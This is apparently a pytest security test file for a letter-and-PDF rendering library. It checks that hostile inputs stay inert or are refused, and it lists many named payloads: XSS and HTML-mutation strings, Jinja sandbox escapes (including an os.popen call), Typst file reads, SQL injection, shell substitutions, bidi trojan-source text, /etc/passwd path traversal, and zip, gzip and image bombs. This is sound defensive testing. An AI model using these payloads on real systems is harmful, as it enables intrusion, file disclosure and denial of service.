"""The corpus: named attacks on what is printed, and each outlet that could let one through.

An attack in the data has to come out as the text that it is, in the letter's JSON, on the screen
and on paper. An attack in a template, a letterhead or a folder has to be refused by name. What
hypothesis finds by chance is in test_hostile.py; these are the ones that people know.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import unicodedata
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pikepdf
import pytest

import ceosample as cs
from ceosample.letters.markup import tree
from ceosample.text import BIDI_CONTROLS
from structure import structure
from test_conformance import ACTIVE, heard, names_in, pdfs
from test_hostile import SIGNATORY, Screen, cleaned, words
from test_hostile import refusal_of as refusal_of_template
from test_letters import DATE, drawn, refusal_of, render

pytestmark = pytest.mark.slow

# ---- Data --------------------------------------------------------------------------------------

#: What a customer may call themselves, or write. None of it is longer than an id may be.
DATA = {
    # HTML, as it is broken out of text, attributes, comments and style sheets
    "script": "<script>alert(1)</script>",
    "image with a handler": '<img src=x onerror="alert(1)">',
    "svg": "<svg/onload=alert(1)>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "attribute, double": '" autofocus onfocus="alert(1)',
    "attribute, single": "' onmouseover='alert(1)",
    "attribute, none": "x onclick=alert(1)//",
    "end of style": "</style><script>alert(1)</script>",
    "end of title": "</title><script>alert(1)</script>",
    "end of comment": "--><script>alert(1)</script><!--",
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation, math": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "mutation, template": "<template><s>x</template><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x202e;",
    "address of a script": "javascript:alert(1)",
    "address of data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "style": "<style>@import 'https://example.org/x.css';</style>",
    "image of the web": '<img src="https://example.org/p.png">',
    "css address": "background:url(https://example.org/p.png)",
    "link": '<link rel=stylesheet href="//example.org/x.css">',
    "frame": '<iframe src="file:///etc/passwd"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://example.org">',
    "base": '<base href="https://example.org/">',
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "entity of a file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    # Jinja
    "expression": "{{ 7 * 7 }}",
    "way to the builtins": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "statement": "{% include '/etc/passwd' %}",
    "raw": "{% endraw %}{{ 7 * 7 }}{% raw %}",
    "comment": "{# gone #}",
    "markup's own mark": "{% call element('approval') %}x{% endcall %}",
    # Typst
    "reads a file": '#read("/etc/passwd")',
    "imports a package": '#import "@preview/example:0.1.0": x',
    "includes": '#include "/etc/passwd"',
    "evaluates": '#eval("1 + 1", mode: "code")',
    "plugin": '#plugin("x.wasm")',
    "image of a file": '#image("/etc/passwd")',
    "set": "#set page(width: 1mm)",
    "show": '#show "fee": "free"',
    "code block": "#{ while true {} }",
    "content block": "]#strong[x]",
    "escaped hash": r"\#read(x) \u{41}",
    "equation": "$ sum_(k=1)^n k $ and 5$",
    "raw text": "`raw` ```typ #read(1)```",
    "label and reference": "<label> @label",
    "heading and list": "= Heading / term: x + item",
    "comment of Typst": "// gone /* gone */",
    "end of a string": '"); panic("x',
    # Other formats that this may be pasted into
    "format string": "%s%n {0.__class__} {} $HOME `id` $(id) ${7*7} <%= 7 %> #{7}",
    "formula": "=HYPERLINK(\"http://example.org?x=\"&A1;\"x\")",
    "object of a PDF": ") Tj ET endstream endobj << /JS (app.alert(1)) /S /JavaScript >>",
    "header of a mail": "a@example.org Bcc: b@example.org",
    "statement of SQL": "'; DROP TABLE letters;--",
    "escape of a terminal, as text": r"\x1b[2J ^[[2J",
    # Directions and look-alikes
    "override": "account \u202e0001\u202c closed",
    "isolates that stay open": "\u2067\u2066\u2068left open",
    "trojan source": "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */",
    "marks": "\u200e\u200fName\u061c",
    "look-alikes": "Раураl Вank",
    "combined": "Z\u0351\u036b\u033d x",
    # Paths
    "way up": "../../../etc/passwd",
    "absolute": "/etc/passwd",
    "device": "CON.pdf",
    "windows": r"C:\Windows\x..\..",
    "pack's own name": "pack.json",
}  # fmt: skip


@pytest.fixture(scope="module")
def pack() -> cs.Pack:
    """A letter an attack: its id, every field, its docket, and the signatory and the letterhead."""
    contents = {
        cleaned(text): {
            "letter": {
                "recipient": text,
                "address": [text, text],
                "salutation": text,
                "subject": text,
                "body": f"{text}\n\n{text}",
                "closing": text,
            },
            "docket": {"owner": "h-1", "division": text},
        }
        for text in DATA.values()
    }
    return cs.render(
        drawn(*contents), contents, signatory=SIGNATORY, date=DATE, pdf=True,
        letterhead=[DATA["script"], DATA["reads a file"], DATA["override"]],
    )  # fmt: skip


@pytest.fixture(scope="module")
def screen(pack: cs.Pack) -> Screen:
    """What a browser makes of the pack; a tag or an attribute that is not the shell's fails."""
    return Screen(pack.files()["pack.html"])


def place(pack: cs.Pack, text: str) -> int:
    """Where in the pack an attack is."""
    return [letter.unit_id for letter in pack].index(cleaned(text))


@pytest.mark.parametrize("name", DATA)
def test_hostile_data_is_the_text_of_the_letter(pack: cs.Pack, name: str) -> None:
    """In the letter's JSON, which is what is signed: eight times, and as text alone."""
    letter = pack[cleaned(DATA[name])]
    said = words(tree.to_text(letter.tree))
    assert "".join(said).count("".join(words(DATA[name]))) >= 8
    assert not set(BIDI_CONTROLS) & set(json.dumps(letter.fields, ensure_ascii=False))


@pytest.mark.parametrize("name", DATA)
def test_hostile_data_is_text_on_the_screen(pack: cs.Pack, screen: Screen, name: str) -> None:
    number = place(pack, DATA[name])
    text = "".join(words(DATA[name]))
    assert "".join(words(screen.letters[number])).count(text) >= 8
    assert "".join(words(screen.dockets[number]["Division"])) == text


@pytest.mark.parametrize("name", DATA)
def test_hostile_data_is_text_on_paper(pack: cs.Pack, name: str) -> None:
    """And in the file's title, which is XML."""
    letter = pack[cleaned(DATA[name])]
    data = pdfs(pack)[f"letters/{letter.name}.pdf"]
    # A font may say of a cluster only what it is as a whole, so marks are compared decomposed.
    said = unicodedata.normalize("NFD", heard(structure(data).text))
    text = unicodedata.normalize("NFD", heard(cleaned(DATA[name])))
    assert said.count(text) >= 8
    with pikepdf.open(io.BytesIO(data)) as file, file.open_metadata() as metadata:
        assert metadata["dc:title"] == f"Response {letter.unit_id}"


def test_no_attack_makes_a_pdf_do_anything(pack: cs.Pack) -> None:
    for name, data in pdfs(pack).items():
        with pikepdf.open(io.BytesIO(data)) as file:
            found = set().union(*(names_in(thing) for thing in file.objects))
        assert not found & ACTIVE, name


def test_no_attack_names_a_file(pack: cs.Pack, tmp_path: Path) -> None:
    """Each is saved inside its folder, and read back."""
    folder = tmp_path / "month" / "pack"
    pack.save(folder)
    there = {path for path in tmp_path.rglob("*") if not path.is_dir()}
    assert there == {folder / name for name in (*pack.files(), "room.html", "verifier.html")}
    assert cs.Pack.load(folder).files() == pack.files()


def test_the_screen_asks_the_network_for_nothing(pack: cs.Pack) -> None:
    """No attack could, even if it were code: the policy is before all data and allows nothing."""
    html = pack.files()["pack.html"].decode()
    head = html[: html.index("<title>")]
    assert "default-src 'none'; style-src 'unsafe-inline'" in head
    assert "script-src" not in head


@pytest.mark.parametrize(
    ("text", "named"),
    [("漢字", "U+6F22"), ("ไทย", "U+0E44"), ("😀", "U+1F600"),
     ("\ue000", "U+E000"), ("\U0001f1ec\U0001f1e7", "U+1F1EC")],
)  # fmt: skip
def test_a_glyph_that_is_missing_is_named_and_never_a_box(text: str, named: str) -> None:
    fields = {"recipient": text, "address": [], "salutation": "x", "subject": "x", "body": "x"}
    contents = {"A-1": {"letter": {**fields, "closing": "x"}, "docket": {}}}
    said = refusal_of(contents=contents, pdf=True)
    assert said.startswith("letter A-1: ")
    assert named in said


# ---- Templates ---------------------------------------------------------------------------------

#: Ways out of the sandbox and into the machine that have been found in Jinja's years, and bombs.
TEMPLATES = {
    "attr": "{{ '' | attr('__class__') }}",
    "attr, in pieces": "{{ '' | attr('__cla' ~ 'ss__') }}",
    "attr, escaped": r"{{ '' | attr('\x5f\x5fclass\x5f\x5f') }}",
    "attr of format, CVE-2025-27516": "{{ ('{0.__class__}' | attr('format'))(body) }}",
    "format through a filter, CVE-2024-56326": "{% set f = '{0.__class__}'.format %}{{ f(body) }}",
    "format by map": "{{ ['{0.__class__}'] | map(attribute='format') | first }}",
    "format_map": "{{ '{x.__class__}'.format_map({'x': body}) }}",
    "map of attributes": "{{ [body] | map(attribute='__class__') | list }}",
    "groupby": "{{ [body] | groupby('__class__') }}",
    "sort by": "{{ [customer, customer] | sort(attribute='__class__') | first }}",
    "subscript": "{{ body['__class__']['__mro__'] }}",
    "macro's globals": "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
    "caller": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}x{% endcall %}",
    "loop": "{% for x in [1] %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "self": "{{ self.__init__.__globals__ }}",
    "element's code": "{{ element.__code__ }}",
    "cycler": "{{ cycler('a').__init__.__globals__.os.popen('id').read() }}",
    "joiner": "{{ joiner.__init__.__globals__ }}",
    "namespace": "{% set ns = namespace() %}{{ ns }}",
    "lipsum": "{{ lipsum.__globals__['os'] }}",
    "dict": "{{ dict.__base__ }}",
    "request of a framework": "{{ request.application.__globals__ }}",
    "config of a framework": "{{ config.items() }}",
    "url_for": "{{ url_for.__globals__ }}",
    "generator's frame": "{{ (body | map('upper')).gi_frame }}",
    "coroutine": "{{ body.__await__ }}",
    "exception": "{{ absent.__class__.__init__ }}",
    "bomb, percent": "{{ '%10000000000d' % 1 }}",
    "bomb, format": "{{ '{:>10000000000}'.format(1) }}",
    "bomb, doubling": "{% set ns = ['x'] %}" + "{% set ns = ns + ns %}" * 40 + "{{ ns | length }}",
    "bomb, indent": "{{ ('a\n' * 10 ** 8) | indent(1000) | length }}",
    "bomb, recursive loop": "{% for x in [[]] recursive %}{{ loop([[]]) }}{% endfor %}",
    "bomb, itself": "{% extends 'letter.html' %}{% block body %}{{ self.body() }}{% endblock %}",
}  # fmt: skip


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_hostile_template_is_refused_by_the_letter(name: str) -> None:
    """'Template injection' from a template of the user's own: in bounded time and memory."""
    said = refusal_of_template(TEMPLATES[name])
    assert "root:" not in said
    assert "object at 0x" not in said


# ---- Letterheads, fonts and folders ------------------------------------------------------------


def picture(width: int, height: int, data: bytes) -> bytes:
    """A PNG that says it is so large, whatever is in it."""
    chunks = [
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)),
        (b"IDAT", data),
        (b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in chunks
    )


def archive(size: int) -> bytes:
    """A small archive of a large file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("letterhead.svg", bytes(size))
    return out.getvalue()


LETTERHEADS = {
    "image bomb": [picture(60_000, 60_000, zlib.compress(bytes(10**7)))],
    "image": [picture(1, 1, zlib.compress(bytes(5)))],
    "zip bomb": [archive(10**8)],
    "gzip bomb": [gzip.compress(bytes(10**8))],
    "bytes": b"The Bank",
    "path": Path("/etc/passwd"),
    "path in a list": [Path("/etc/passwd")],
    "open file": [io.BytesIO(b"The Bank")],
    "a line without end": ["x" * 10**6],
    "lines without end": ["x"] * 10**6,
    "a control": ["The Bank\x1b[2J"],
    "a picture as text": ["\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"],
}


@pytest.mark.parametrize("name", LETTERHEADS)
def test_a_letterhead_is_a_few_lines_of_text_and_nothing_else(name: str) -> None:
    """'Zip and image bombs in a letterhead': no picture is opened, so none can go off."""
    said = refusal_of(letterhead=LETTERHEADS[name], pdf=True)
    assert "letterhead" in said
    assert len(said) < 500


def test_files_that_only_call_themselves_fonts_change_nothing(tmp_path: Path) -> None:
    (tmp_path / "empty.ttf").write_bytes(b"")
    (tmp_path / "noise.otf").write_bytes(bytes(range(256)) * 4000)
    (tmp_path / "archive.ttf").write_bytes(archive(10**7))
    (tmp_path / "link.ttf").symlink_to("/etc/passwd")
    assert render(pdf=True, fonts=tmp_path).files() == render(pdf=True).files()


def test_a_link_that_was_planted_in_the_folder_leads_no_file_elsewhere(tmp_path: Path) -> None:
    """A file's link is replaced by the file; a folder's is refused, and nothing is lost."""
    pack: Any = render()
    victim, away, folder = tmp_path / "victim", tmp_path / "away", tmp_path / "pack"
    victim.write_text("mine")
    away.mkdir()
    folder.mkdir()
    (folder / "pack.html").symlink_to(victim)
    (folder / "letters").symlink_to(away)
    with pytest.raises(cs.errors.ConflictError, match="letters: is a link"):
        pack.save(folder)
    (folder / "letters").unlink()
    pack.save(folder)
    assert victim.read_text() == "mine"
    assert list(away.iterdir()) == []
    assert not (folder / "pack.html").is_symlink()
    assert cs.Pack.load(folder).files() == pack.files()


def test_a_planted_link_to_another_file_is_not_read_as_a_letter(tmp_path: Path) -> None:
    pack = render()
    pack.save(tmp_path)
    name = next(name for name in pack.files() if name.startswith("letters/"))
    (tmp_path / name).unlink()
    (tmp_path / name).symlink_to("/etc/passwd")
    with pytest.raises(cs.errors.RecordError, match="changed since the pack was made") as caught:
        cs.Pack.load(tmp_path)
    assert "root:" not in str(caught.value)
